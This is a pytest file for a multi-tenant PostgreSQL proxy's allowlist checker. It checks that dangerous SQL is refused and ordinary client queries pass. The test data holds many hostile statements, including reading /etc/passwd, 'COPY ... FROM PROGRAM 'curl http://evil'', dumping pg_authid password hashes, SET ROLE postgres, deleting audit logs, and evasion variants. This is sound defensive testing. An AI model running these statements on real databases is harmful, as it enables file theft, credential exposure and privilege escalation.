"""The function and catalog allowlist (proxy/policy/allowlist.py) at the checker level.

Every in-band item of the API-only-access issue is refused with SQLSTATE 42501
and a message that names it; the catalog queries real clients send
(tests/data/client_catalog_queries.sql, captured from psql, asyncpg and
SQLAlchemy) pass; every allowed built-in passes and every excluded one is
refused, whatever the call syntax.
"""

from __future__ import annotations

import logging
import re
from pathlib import Path

import pytest
import sqlglot
from sqlglot import exp

from proxy.policy.allowlist import FunctionChecker
from proxy.policy.allowlist_rules import (
    AllowlistError,
    load_catalog_rules,
    load_function_allowlist,
    typed_function_names,
)
from proxy.policy.errors import PolicyRefusal

DATA = Path(__file__).parent / "data"
logging.getLogger("sqlglot").setLevel(logging.CRITICAL)


@pytest.fixture(scope="module")
def checker() -> FunctionChecker:
    return FunctionChecker.default(declared_safe_functions={"public.tenant_total", "app_helper", "public.app_proc"})


def parse(sql: str) -> exp.Expression:
    return sqlglot.parse_one(sql, read="postgres")


def refused(checker: FunctionChecker, sql: str) -> PolicyRefusal:
    with pytest.raises(PolicyRefusal) as info:
        checker.check(parse(sql))
    return info.value


# (statement, the item the message must name) — one per refused item of issue 4's in-band list.
REFUSED = [
    # server file and program access
    ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
    ("SELECT pg_read_file('postgresql.conf', 0, 100, true)", "pg_read_file"),
    ("SELECT pg_read_binary_file('/etc/passwd')", "pg_read_binary_file"),
    ("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir"),
    ("SELECT pg_ls_logdir()", "pg_ls_logdir"),
    ("SELECT * FROM pg_ls_waldir()", "pg_ls_waldir"),
    ("SELECT pg_ls_tmpdir()", "pg_ls_tmpdir"),
    ("SELECT pg_ls_archive_statusdir()", "pg_ls_archive_statusdir"),
    ("SELECT pg_ls_logicalsnapdir()", "pg_ls_logicalsnapdir"),
    ("SELECT pg_ls_logicalmapdir()", "pg_ls_logicalmapdir"),
    ("SELECT pg_ls_replslotdir('s')", "pg_ls_replslotdir"),
    ("SELECT pg_stat_file('base')", "pg_stat_file"),
    ("SELECT pg_current_logfile()", "pg_current_logfile"),
    ("COPY orders TO '/tmp/orders.csv'", "COPY to or from a server file"),
    ("COPY orders FROM '/tmp/orders.csv' WITH (FORMAT csv)", "COPY to or from a server file"),
    ("COPY (SELECT 1) TO '/tmp/x'", "COPY to or from a server file"),
    ("COPY orders FROM PROGRAM 'curl http://evil'", "COPY ... PROGRAM"),
    ("COPY orders TO PROGRAM 'gzip > /tmp/x'", "COPY ... PROGRAM"),
    # adminpack-style writers (the extension is not installed in the test cluster: patterns catch them)
    ("SELECT pg_file_write('/tmp/x', 'data', false)", "pg_file_write"),
    ("SELECT pg_file_rename('/tmp/x', '/tmp/y')", "pg_file_rename"),
    ("SELECT pg_file_unlink('/tmp/x')", "pg_file_unlink"),
    ("SELECT pg_file_sync('/tmp/x')", "pg_file_sync"),
    ("SELECT * FROM pg_logdir_ls()", "pg_logdir_ls"),
    # large objects
    ("SELECT lo_import('/etc/passwd')", "lo_import"),
    ("SELECT lo_import('/etc/passwd', 4242)", "lo_import"),
    ("SELECT lo_export(4242, '/tmp/x')", "lo_export"),
    ("SELECT lo_open(4242, 262144)", "lo_open"),
    ("SELECT lo_close(0)", "lo_close"),
    ("SELECT lo_creat(-1)", "lo_creat"),
    ("SELECT lo_create(0)", "lo_create"),
    ("SELECT lo_unlink(4242)", "lo_unlink"),
    ("SELECT lo_get(4242)", "lo_get"),
    ("SELECT lo_put(4242, 0, 'x')", "lo_put"),
    ("SELECT lo_from_bytea(0, 'x')", "lo_from_bytea"),
    ("SELECT lo_lseek(0, 0, 0)", "lo_lseek"),
    ("SELECT lo_lseek64(0, 0, 0)", "lo_lseek64"),
    ("SELECT lo_tell(0)", "lo_tell"),
    ("SELECT lo_tell64(0)", "lo_tell64"),
    ("SELECT lo_truncate(0, 0)", "lo_truncate"),
    ("SELECT lo_truncate64(0, 0)", "lo_truncate64"),
    ("SELECT loread(0, 100)", "loread"),
    ("SELECT lowrite(0, 'x')", "lowrite"),
    ("SELECT * FROM pg_largeobject", "pg_largeobject"),
    ("SELECT data FROM pg_catalog.pg_largeobject WHERE loid = 1", "pg_largeobject"),
    ("SELECT * FROM pg_largeobject_metadata", "pg_largeobject_metadata"),
    # SQL given as text
    ("SELECT query_to_xml('select * from orders', true, true, '')", "query_to_xml"),
    ("SELECT query_to_xmlschema('select 1', true, true, '')", "query_to_xmlschema"),
    ("SELECT query_to_xml_and_xmlschema('select 1', true, true, '')", "query_to_xml_and_xmlschema"),
    ("SELECT cursor_to_xml('c', 10, true, true, '')", "cursor_to_xml"),
    ("SELECT cursor_to_xmlschema('c', true, true, '')", "cursor_to_xmlschema"),
    ("SELECT table_to_xml('orders', true, true, '')", "table_to_xml"),
    ("SELECT table_to_xmlschema('orders', true, true, '')", "table_to_xmlschema"),
    ("SELECT table_to_xml_and_xmlschema('orders', true, true, '')", "table_to_xml_and_xmlschema"),
    ("SELECT schema_to_xml('public', true, true, '')", "schema_to_xml"),
    ("SELECT schema_to_xmlschema('public', true, true, '')", "schema_to_xmlschema"),
    ("SELECT schema_to_xml_and_xmlschema('public', true, true, '')", "schema_to_xml_and_xmlschema"),
    ("SELECT database_to_xml(true, true, '')", "database_to_xml"),
    ("SELECT database_to_xmlschema(true, true, '')", "database_to_xmlschema"),
    ("SELECT database_to_xml_and_xmlschema(true, true, '')", "database_to_xml_and_xmlschema"),
    ("SELECT * FROM ts_stat('select body_tsv from docs')", "ts_stat"),
    ("SELECT ts_rewrite('a'::tsquery, 'select t, s from aliases')", "ts_rewrite"),
    ("SELECT * FROM dblink('dbname=other', 'select * from orders') AS t(a int)", "dblink"),
    ("SELECT dblink_exec('dbname=other', 'delete from orders')", "dblink_exec"),
    ("SELECT dblink_connect('c', 'dbname=other')", "dblink_connect"),
    ("DO $$ BEGIN PERFORM 1; END $$", "DO block"),
    ("DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'select 1'; END $$", "DO block"),
    # extending or reconfiguring the server
    ("CREATE EXTENSION dblink", "CREATE EXTENSION"),
    ("CREATE EXTENSION IF NOT EXISTS adminpack", "CREATE EXTENSION"),
    ("CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "CREATE FUNCTION"),
    ("CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", "CREATE FUNCTION"),
    ("ALTER FUNCTION f() SECURITY DEFINER", "ALTER FUNCTION"),
    ("CREATE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$", "CREATE PROCEDURE"),
    ("ALTER PROCEDURE p() OWNER TO postgres", "ALTER PROCEDURE"),
    ("CREATE LANGUAGE plperlu", "CREATE LANGUAGE"),
    ("CREATE TRUSTED LANGUAGE plperl", "CREATE TRUSTED LANGUAGE"),
    ("ALTER LANGUAGE plpgsql OWNER TO postgres", "ALTER LANGUAGE"),
    ("CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw", "CREATE SERVER"),
    ("ALTER SERVER other OPTIONS (SET host 'evil')", "ALTER SERVER"),
    ("CREATE FOREIGN DATA WRAPPER w", "CREATE FOREIGN DATA WRAPPER"),
    ("CREATE USER MAPPING FOR CURRENT_USER SERVER other OPTIONS (user 'x')", "CREATE USER MAPPING"),
    ("ALTER USER MAPPING FOR CURRENT_USER SERVER other OPTIONS (SET password 'x')", "ALTER USER MAPPING"),
    ("LOAD 'plpgsql'", "LOAD"),
    ("ALTER SYSTEM SET wal_level = minimal", "ALTER SYSTEM"),
    ("ALTER SYSTEM RESET ALL", "ALTER SYSTEM"),
    ("SELECT pg_reload_conf()", "pg_reload_conf"),
    ("SELECT set_config('role', 'postgres', false)", "role"),
    ("SELECT set_config('search_path', 'evil', false)", "search_path"),
    ("SELECT set_config('session_authorization', 'postgres', false)", "session_authorization"),
    ("SELECT set_config(name, 'x', false) FROM params", "set_config"),
    ("SELECT set_config('client_encoding', 'SJIS', false)", "client_encoding"),
    ("SELECT set_config('standard_conforming_strings', 'off', false)", "standard_conforming_strings"),
    ("SELECT set_config('transaction_read_only', 'off', true)", "transaction_read_only"),
    ("SELECT set_config('row_security', 'off', false)", "row_security"),
    ("SELECT pg_catalog.set_config('tenantgate.tenant_id', 'globex', false)", "tenantgate.tenant_id"),
    ("SET ROLE postgres", "SET ROLE"),
    ("SET LOCAL ROLE postgres", "SET ROLE"),
    ("SET SESSION ROLE postgres", "SET ROLE"),
    ("SET role = postgres", "SET ROLE"),
    ("SET SESSION AUTHORIZATION postgres", "SET SESSION AUTHORIZATION"),
    ("SET session_authorization = postgres", "SET SESSION AUTHORIZATION"),
    ("SELECT pg_terminate_backend(12345)", "pg_terminate_backend"),
    ("SELECT pg_cancel_backend(12345)", "pg_cancel_backend"),
    # user-defined functions and procedures that the rules do not declare safe
    ("SELECT my_udf(1)", "my_udf"),
    ("SELECT public.my_udf(1)", "public.my_udf"),
    ("SELECT * FROM public.my_set_returning_udf()", "public.my_set_returning_udf"),
    ("SELECT other_schema.tenant_total(1)", "other_schema.tenant_total"),
    ("CALL my_proc()", "my_proc"),
    ("CALL public.my_proc(1)", "public.my_proc"),
    ("CREATE TRIGGER t AFTER INSERT ON orders EXECUTE FUNCTION audit_fn()", "audit_fn"),
    # catalogs that leak other tenants' data
    ("SELECT * FROM pg_stats", "pg_stats"),
    ("SELECT most_common_vals FROM pg_catalog.pg_stats WHERE tablename = 'orders'", "pg_stats"),
    ("SELECT * FROM pg_statistic", "pg_statistic"),
    ("SELECT * FROM pg_stats_ext", "pg_stats_ext"),
    ("SELECT * FROM pg_stats_ext_exprs", "pg_stats_ext_exprs"),
    ("SELECT * FROM pg_statistic_ext_data", "pg_statistic_ext_data"),
    ("SELECT query FROM pg_stat_activity", "pg_stat_activity"),
    ("SELECT * FROM pg_catalog.pg_stat_activity", "pg_stat_activity"),
    ("SELECT query FROM pg_stat_statements", "pg_stat_statements"),
    ("SELECT query FROM public.pg_stat_statements", "pg_stat_statements"),
    ("SELECT * FROM pg_authid", "pg_authid"),
    ("SELECT rolpassword FROM pg_catalog.pg_authid", "pg_authid"),
    ("SELECT passwd FROM pg_shadow", "pg_shadow"),
    ("SELECT * FROM pg_user_mappings", "pg_user_mappings"),
    ("SELECT * FROM pg_file_settings", "pg_file_settings"),
    ("SELECT * FROM pg_hba_file_rules", "pg_hba_file_rules"),
    ("SELECT * FROM pg_ident_file_mappings", "pg_ident_file_mappings"),
    ("SELECT * FROM pg_stat_replication", "pg_stat_replication"),
    ("SELECT * FROM pg_locks", "pg_locks"),
    ("SELECT * FROM pg_stat_user_tables", "pg_stat_user_tables"),
    ("SELECT * FROM information_schema.user_mapping_options", "user_mapping_options"),
    # functions behind those catalogs, and other server state
    ("SELECT * FROM pg_stat_get_activity(NULL)", "pg_stat_get_activity"),
    ("SELECT pg_stat_get_backend_activity(1)", "pg_stat_get_backend_activity"),
    ("SELECT * FROM pg_hba_file_rules()", "pg_hba_file_rules"),
    ("SELECT * FROM pg_show_all_file_settings()", "pg_show_all_file_settings"),
    ("SELECT * FROM pg_mcv_list_items(NULL)", "pg_mcv_list_items"),
    ("SELECT pg_rotate_logfile()", "pg_rotate_logfile"),
    ("SELECT pg_promote()", "pg_promote"),
    ("SELECT pg_switch_wal()", "pg_switch_wal"),
    ("SELECT pg_backup_start('x')", "pg_backup_start"),
    ("SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", "pg_logical_slot_get_changes"),
    ("SELECT pg_create_logical_replication_slot('s', 'test_decoding')", "pg_create_logical_replication_slot"),
    ("SELECT pg_advisory_lock(1)", "pg_advisory_lock"),
    ("SELECT pg_notify('ch', 'x')", "pg_notify"),
    ("SELECT setval('orders_id_seq', 1)", "setval"),
    ("SELECT setseed(0.5)", "setseed"),  # survives on a pooled connection (issue 12, break 6)
    # tenantgate's control schema
    ("SELECT * FROM tenantgate_control.grants", "tenantgate_control"),
    ('SELECT * FROM "tenantgate_control"."audit_log"', "tenantgate_control"),
    ("SELECT * FROM TENANTGATE_CONTROL.grants", "tenantgate_control"),
    ("SELECT tenantgate_control.approve(1)", "tenantgate_control"),
    ("SELECT 'tenantgate_control.grants'::regclass", "tenantgate_control"),
    ("SELECT has_table_privilege('tenantgate_control.grants', 'select')", "tenantgate_control"),
    ("DELETE FROM tenantgate_control.audit_log", "tenantgate_control"),
    ("INSERT INTO tenantgate_control.grants (id) VALUES (1)", "tenantgate_control"),
    ("UPDATE tenantgate_control.grants SET expires = now()", "tenantgate_control"),
]


@pytest.mark.parametrize(("sql", "item"), REFUSED, ids=[s for s, _ in REFUSED])
def test_refused_with_42501_naming_the_item(checker, sql, item):
    err = refused(checker, sql)
    assert err.sqlstate == "42501"
    assert item.lower() in err.message.lower(), err.message
    assert "not allowed" in err.message or "no session may reach" in err.message


# The same dangerous functions however they are spelled or wherever they hide in a statement.
EVASIONS = [
    ('SELECT "pg_read_file"(\'/etc/passwd\')', "pg_read_file"),
    ("SELECT PG_READ_FILE('/etc/passwd')", "pg_read_file"),
    ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "pg_read_file"),
    ("SELECT PG_CATALOG.PG_LS_DIR('.')", "pg_ls_dir"),
    ('SELECT "pg_catalog"."lo_export"(1, \'/tmp/x\')', "lo_export"),
    ("SELECT mydb.pg_catalog.pg_read_file('x')", "pg_read_file"),
    ("SELECT * FROM pg_catalog.pg_ls_dir('.') AS d(name)", "pg_ls_dir"),
    ("SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('.'))", "pg_ls_dir"),
    ("SELECT * FROM orders WHERE note = pg_read_file('/etc/passwd')", "pg_read_file"),
    ("SELECT * FROM orders o JOIN LATERAL pg_ls_dir('.') d ON true", "pg_ls_dir"),
    ("SELECT (SELECT pg_read_file('x'))", "pg_read_file"),
    ("WITH x AS (SELECT lo_get(1) AS b) SELECT * FROM x", "lo_get"),
    ("SELECT 1 UNION SELECT length(pg_read_file('x'))", "pg_read_file"),
    ("INSERT INTO notes (body) VALUES (pg_read_file('/etc/passwd'))", "pg_read_file"),
    ("INSERT INTO notes (body) SELECT query FROM pg_stat_activity", "pg_stat_activity"),
    ("UPDATE notes SET body = query_to_xml('select 1', true, true, '')::text", "query_to_xml"),
    ("DELETE FROM notes WHERE id IN (SELECT lo_unlink(1))", "lo_unlink"),
    ("SELECT count(*) FILTER (WHERE pg_read_file('x') IS NOT NULL) FROM orders", "pg_read_file"),
    ("SELECT string_agg(pg_read_file('x'), ',' ORDER BY 1) FROM orders", "pg_read_file"),
    ("SELECT row_number() OVER (ORDER BY pg_read_file('x')) FROM orders", "pg_read_file"),
    ("SELECT CASE WHEN true THEN pg_read_file('x') END", "pg_read_file"),
    ("SELECT coalesce(NULL, pg_read_file('x'))", "pg_read_file"),
    ("SELECT ARRAY[pg_read_file('x')]", "pg_read_file"),
    ("SELECT pg_read_file('x')::text || 'y'", "pg_read_file"),
    ("SELECT upper(lower(pg_read_file('x')))", "pg_read_file"),
    ("SELECT * FROM orders ORDER BY pg_read_file('x')", "pg_read_file"),
    ("SELECT 1 FROM orders GROUP BY pg_read_file('x') HAVING count(*) > 0", "pg_read_file"),
    ("WITH x AS (SELECT * FROM pg_statistic) SELECT * FROM x", "pg_statistic"),
    ('SELECT * FROM "pg_authid"', "pg_authid"),
    ("TABLE pg_authid", "pg_authid"),
    ("SELECT 1 FROM orders JOIN pg_shadow s ON true", "pg_shadow"),
    ("SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM pg_stats)", "pg_stats"),
    ("SELECT a OPERATOR(public.===) b FROM t", "OPERATOR(public.===)"),
    ("SELECT * FROM pg_catalog.pg_not_a_real_catalog", "pg_not_a_real_catalog"),
    ("SELECT * FROM pg_seclabel_unknown_view", "pg_seclabel_unknown_view"),
    ("SELECT * FROM information_schema.some_future_view", "some_future_view"),
    ("SELECT month(created) FROM orders", "month"),
    ("CALL public.app_proc(pg_read_file('x'))", "pg_read_file"),
]


@pytest.mark.parametrize(("sql", "item"), EVASIONS, ids=[s for s, _ in EVASIONS])
def test_evasions_are_refused(checker, sql, item):
    err = refused(checker, sql)
    assert err.sqlstate == "42501"
    assert item.lower() in err.message.lower(), err.message


ALLOWED = [
    "SELECT 1",
    "SELECT * FROM orders WHERE tenant_id = 'acme'",
    "SELECT strpos(a, b), length(x), now(), current_user, coalesce(a, b), x::regclass FROM t",
    "SELECT a -> 'b', a ->> 'c', a #> '{a}', a #>> '{a}', a @> b, a <@ b, a && b, a || b FROM t",
    "SELECT a ~ 'x', a ~* 'x', a !~ 'x', a LIKE 'x', a ILIKE 'x', a SIMILAR TO 'x', a @@ b FROM t",
    "SELECT CASE WHEN a THEN 1 ELSE 2 END, NULLIF(a, b), GREATEST(a, b), LEAST(a, b) FROM t",
    "SELECT EXTRACT(year FROM d), date_trunc('day', d), d AT TIME ZONE 'UTC', INTERVAL '1 day' FROM t",
    "SELECT TRIM(BOTH 'x' FROM a), SUBSTRING(a FROM 1 FOR 2), POSITION('a' IN b), OVERLAY(a PLACING 'x' FROM 1) FROM t",
    "SELECT count(*), count(DISTINCT a), sum(a) FILTER (WHERE b), string_agg(a, ',' ORDER BY a) FROM t",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY a), mode() WITHIN GROUP (ORDER BY a) FROM t",
    "SELECT row_number() OVER (PARTITION BY a ORDER BY b), lag(a) OVER w FROM t WINDOW w AS (ORDER BY a)",
    "SELECT * FROM unnest(ARRAY[1, 2]) AS u(x)",
    "SELECT * FROM generate_series(1, 10) AS g(i)",
    "SELECT * FROM jsonb_array_elements('[1,2]'::jsonb)",
    "SELECT jsonb_build_object('a', 1), to_jsonb(t), row_to_json(t) FROM t",
    "SELECT gen_random_uuid(), random(), md5('x'), encode(sha256('x'), 'hex')",
    "SELECT nextval('orders_id_seq'), currval('orders_id_seq'), lastval()",
    "SELECT current_setting('server_version_num'), version(), current_database(), current_schema()",
    "SELECT set_config('application_name', 'billing', false)",
    "SELECT pg_catalog.set_config('statement_timeout', '5s', true)",
    "SELECT 'pg_read_file'::regproc, 'pg_authid'::regclass",
    "SELECT a OPERATOR(pg_catalog.+) b FROM t",
    "SELECT pg_sleep(0.01)",
    "SELECT inet_server_addr(), inet_server_port()",  # infrastructure, no tenant data (issue 20)
    "SELECT public.tenant_total(1), app_helper(2)",
    "SELECT * FROM public.tenant_total(1)",
    "CALL public.app_proc(1)",
    "SELECT to_tsvector('english', body) @@ plainto_tsquery('x') FROM docs",
    "SELECT xmlelement(name a, 'x'), xpath('/a', x) FROM t",
    "SELECT txid_current(), pg_current_xact_id(), pg_backend_pid()",
    "SELECT c.relname FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace",
    "SELECT * FROM information_schema.columns WHERE table_name = 'orders'",
    "SELECT * FROM pg_catalog.pg_type",
    "COPY orders TO STDOUT",
    "COPY orders FROM STDIN WITH (FORMAT csv)",
    "COPY (SELECT * FROM orders) TO STDOUT WITH (FORMAT csv, HEADER)",
    "INSERT INTO orders (id, total) VALUES (1, round(2.5)) RETURNING id, now()",
    "UPDATE orders SET total = total * 1.1, updated = clock_timestamp() WHERE id = $1",
    "DELETE FROM orders WHERE created < now() - INTERVAL '90 days'",
    "SET application_name = 'x'",
    "SELECT 'a note mentioning nothing special'",
]


@pytest.mark.parametrize("sql", ALLOWED)
def test_ordinary_statements_pass(checker, sql):
    checker.check(parse(sql))


def _client_queries() -> list[tuple[str, str]]:
    text = (DATA / "client_catalog_queries.sql").read_text()
    out = []
    for entry in text.split("\n;\n"):
        lines = entry.strip().splitlines()
        clients = [ln[len("-- client:"):].strip() for ln in lines if ln.startswith("-- client:")]
        sql = "\n".join(ln for ln in lines if not ln.startswith("--")).strip()
        if sql:
            out.append((clients[-1], sql))
    return out


CLIENT_QUERIES = _client_queries()


def test_fixture_covers_every_client():
    clients = {c for c, _ in CLIENT_QUERIES}
    for needed in ("asyncpg type introspection", "psql \\d", "psql \\d+", "psql \\dt", "psql \\d customers",
                   "psql tab completion", "sqlalchemy reflection"):
        assert needed in clients, needed
    assert len(CLIENT_QUERIES) >= 60


# sqlglot 30 cannot parse an array of the `oid` type (`$1::oid[]`, in asyncpg's introspection query).
# The function/catalog checker's verdict does not depend on a cast's type, so the test parses the
# query with the equivalent `bigint[]`; the engine's parser must handle `oid[]` itself.
_OID_ARRAY = re.compile(r"::oid\[\]", re.I)


@pytest.mark.parametrize(("client", "sql"), CLIENT_QUERIES, ids=[f"{i}:{c}" for i, (c, _) in enumerate(CLIENT_QUERIES)])
def test_client_catalog_queries_pass(checker, client, sql):
    try:
        trees = sqlglot.parse(sql, read="postgres")
    except sqlglot.errors.ParseError:
        trees = sqlglot.parse(_OID_ARRAY.sub("::bigint[]", sql), read="postgres")
    for tree in trees:
        assert not isinstance(tree, exp.Command), f"{client}: parsed as a Command"
        checker.check(tree)


def test_every_allowed_builtin_passes_and_every_excluded_one_is_refused(checker):
    """Whatever sqlglot turns the call into (exp.Anonymous or a typed class), in any position."""
    allowlist = checker.allowlist
    excluded = sorted(set().union(*(g.functions for g in allowlist.exclusions)))
    wrong = []
    for names, want_allowed in ((sorted(allowlist.allowed), True), (excluded, False)):
        for name in names:
            ident = name if re.fullmatch(r"[a-z_][a-z0-9_]*", name) else f'"{name}"'
            for template in ("SELECT {}({})", "SELECT * FROM {}({})", "SELECT pg_catalog.{}({})"):
                # current_setting is judged by its first argument too (tests/test_setting_names.py)
                arglists = ("'work_mem'", "'work_mem', true") if name == "current_setting" else ("", "a", "a, b", "a, b, c")
                for args in arglists:
                    sql = template.format(ident, args)
                    try:
                        tree = parse(sql)
                    except sqlglot.errors.ParseError:
                        continue  # needs other syntax (e.g. EXTRACT): covered by ALLOWED above
                    try:
                        checker.check(tree)
                        ok = True
                    except PolicyRefusal:
                        ok = False
                    if ok != want_allowed:
                        wrong.append(sql)
    assert wrong == []


def test_no_sqlglot_class_maps_to_both_an_allowed_and_an_excluded_function(checker):
    for cls, names in typed_function_names().items():
        excluded = {n for n in names if checker.allowlist.exclusion(n)}
        allowed = {n for n in names if n in checker.allowlist.allowed}
        assert not (excluded and allowed), (cls.__name__, excluded, allowed)


def test_declared_safe_functions_are_exact():
    checker = FunctionChecker.default(declared_safe_functions={"public.f"})
    checker.check(parse("SELECT public.f(1)"))
    for sql in ("SELECT other.f(1)", "SELECT g(1)", 'SELECT public."F"(1)'):
        assert refused(checker, sql).sqlstate == "42501"


def test_check_relation_api(checker):
    checker.check_relation("pg_catalog", "pg_class")
    checker.check_relation("information_schema", "columns")
    checker.check_relation("public", "orders")  # not a system schema: the engine decides
    checker.check_relation(None, "orders")
    for schema, name, item in [("pg_catalog", "pg_authid", "pg_authid"), (None, "pg_stats", "pg_stats"),
                               ("pg_catalog", "pg_new_thing", "pg_new_thing"),
                               ("tenantgate_control", "grants", "tenantgate_control"),
                               ("public", "pg_stat_statements", "pg_stat_statements")]:
        with pytest.raises(PolicyRefusal) as info:
            checker.check_relation(schema, name)
        assert info.value.sqlstate == "42501" and item in info.value.message


def test_check_function_api(checker):
    checker.check_function(None, "lower")
    checker.check_function("pg_catalog", "format_type")
    checker.check_function("public", "tenant_total")
    for schema, name in [(None, "pg_read_file"), ("pg_catalog", "lo_export"), ("public", "nope"),
                         ("tenantgate_control", "approve"), (None, "set_config")]:
        with pytest.raises(PolicyRefusal) as info:
            checker.check_function(schema, name)
        assert info.value.sqlstate == "42501" and name in info.value.message
    assert checker.function_allowed("upper") and not checker.function_allowed("pg_read_file")


def test_every_exclusion_group_has_a_reason():
    allowlist = load_function_allowlist()
    assert allowlist.exclusions
    for group in allowlist.exclusions:
        assert group.reason.strip(), group.name
    cats = load_catalog_rules()
    for schema, entries in cats.denied.items():
        for name, reason in entries.items():
            assert reason.strip(), f"{schema}.{name}"


def test_malformed_rule_files_are_reported_with_the_bad_key(tmp_path):
    bad = tmp_path / "functions.yaml"
    bad.write_text("excluded:\n  files:\n    functions: [pg_read_file]\n")
    with pytest.raises(AllowlistError, match="excluded.files.reason"):
        load_function_allowlist(bad)
    bad.write_text("allowed:\n  x:\n    functions: [pg_read_file]\nexcluded:\n  f:\n    reason: r\n    patterns: ['pg_*']\n")
    with pytest.raises(AllowlistError, match="both allowed and excluded: pg_read_file"):
        load_function_allowlist(bad)
    cats = tmp_path / "catalogs.yaml"
    cats.write_text("allowed:\n  public: [orders]\n")
    with pytest.raises(AllowlistError, match="public"):
        load_catalog_rules(cats)
    cats.write_text("denied:\n  pg_catalog:\n    pg_authid: ''\n")
    with pytest.raises(AllowlistError, match="pg_authid"):
        load_catalog_rules(cats)
    with pytest.raises(AllowlistError, match="no such file"):
        load_catalog_rules(tmp_path / "missing.yaml")


def test_safe_set_parameters_can_come_from_the_engine():
    checker = FunctionChecker(load_function_allowlist(), load_catalog_rules(),
                              safe_set_parameters=frozenset({"Application_Name"}))
    checker.check(parse("SELECT set_config('application_name', 'x', false)"))
    assert refused(checker, "SELECT set_config('statement_timeout', '1s', false)").sqlstate == "42501"
    loose = FunctionChecker(load_function_allowlist(), load_catalog_rules(),
                            safe_set_parameters=frozenset({"tenantgate.tenant_id"}))
    assert refused(loose, "SELECT set_config('tenantgate.tenant_id', 'x', false)").sqlstate == "42501"


def test_from_rules_uses_the_rules_allowlist_file_and_safe_functions(tmp_path):
    from proxy.policy.rules import load_rules

    (tmp_path / "tenancy.yaml").write_text("safe_functions: [public.tenant_total]\n"
                                           f"function_allowlist_file: {default_functions_yaml()}\n")
    checker = FunctionChecker.from_rules(load_rules(tmp_path / "tenancy.yaml"))
    checker.check(parse("SELECT public.tenant_total(1), upper('x')"))
    assert refused(checker, "SELECT public.other(1)").sqlstate == "42501"


def default_functions_yaml() -> Path:
    from proxy.policy.allowlist_rules import default_rules_dir

    return default_rules_dir() / "functions.yaml"
